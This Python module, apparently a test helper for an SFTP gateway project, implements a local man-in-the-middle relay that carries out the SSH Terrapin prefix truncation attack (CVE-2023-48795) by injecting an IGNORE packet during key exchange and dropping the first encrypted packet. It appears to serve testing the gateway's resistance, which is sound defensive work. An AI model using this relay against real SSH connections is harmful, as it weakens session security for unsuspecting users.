"""A relay between client and gateway that plays the prefix truncation attack.

He puts a packet into the clear part of the key exchange, and takes the first encrypted
one out: the sequence numbers of both ends agree again, and what was taken is not missed
(CVE-2023-48795). The sizes of packets that he cannot read he has to know.
"""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from sftpgw.model.settings import Policy
from sftpgw.ssh.algorithms import policy_offer

MSG_KEXINIT, MSG_NEWKEYS = 20, 21

# Length, padding length, and an IGNORE (2) with an empty string.
IGNORE = struct.pack(">LB", 12, 6) + b"\x02" + bytes(4) + bytes(6)


def sealed_bytes(payload_bytes: int, block_bytes: int, tail_bytes: int) -> int:
    """The size of a packet whose length field is not part of what is padded."""
    padding_bytes = -(1 + payload_bytes) % block_bytes
    if padding_bytes < 4:
        padding_bytes += block_bytes
    return 4 + 1 + payload_bytes + padding_bytes + tail_bytes


def ext_info_bytes(policy: Policy) -> int:
    """The size of the gateway's first encrypted payload (RFC 8308)."""
    listed = policy_offer(policy).login_key_algorithms
    return 1 + 4 + 4 + len("server-sig-algs") + 4 + len(b",".join(listed))


SERVICE_REQUEST_BYTES = 1 + 4 + len("ssh-userauth")
"""The client's."""


@dataclass
class Attack:
    """What is done to the packets that go to one end.

    :param before: the message before which the IGNORE is put in; None: it is not.
    :param drop_bytes: the size of the encrypted packet to take out.
    """

    before: int | None
    drop_bytes: int
    dropped_bytes: int = field(default=0, init=False)
    put_in: int = field(default=0, init=False)

    def changed(self, source: socket.socket) -> Iterator[bytes]:
        """What `source` says, as it arrives at the other end."""
        with source.makefile("rb") as stream:
            yield stream.readline()
            message = None
            while message != MSG_NEWKEYS:
                header = stream.read(6)
                if len(header) < 6:
                    return
                length, _, message = struct.unpack(">LBB", header)
                if message == self.before:
                    self.put_in += 1
                    yield IGNORE
                yield header + stream.read(length - 2)
            self.dropped_bytes = len(stream.read(self.drop_bytes))
            while data := stream.read1(65536):
                yield data


UNCHANGED = Attack(before=None, drop_bytes=0)


@contextmanager
def between(gateway_port: int, *, to_client: Attack, to_gateway: Attack) -> Iterator[int]:
    """A port on which one client may connect, to be attacked."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(60)
        accepting = threading.Thread(
            target=_serve, args=(listening, gateway_port, to_client, to_gateway)
        )
        accepting.start()
        yield int(listening.getsockname()[1])
        accepting.join(60)
        assert not accepting.is_alive()


def _serve(
    listening: socket.socket, gateway_port: int, to_client: Attack, to_gateway: Attack
) -> None:
    client, _ = listening.accept()
    with client, socket.create_connection(("127.0.0.1", gateway_port)) as gateway:
        client.settimeout(60)
        gateway.settimeout(60)
        forth = threading.Thread(target=_pump, args=(client, gateway, to_gateway))
        forth.start()
        _pump(gateway, client, to_client)
        forth.join(60)


def _pump(source: socket.socket, target: socket.socket, attack: Attack) -> None:
    """Until either end has closed; then both are."""
    try:
        for data in attack.changed(source):
            target.sendall(data)
    except OSError:
        pass  # the other end has gone
    for each in (source, target):
        try:
            each.shutdown(socket.SHUT_RDWR)
        except OSError:
            continue
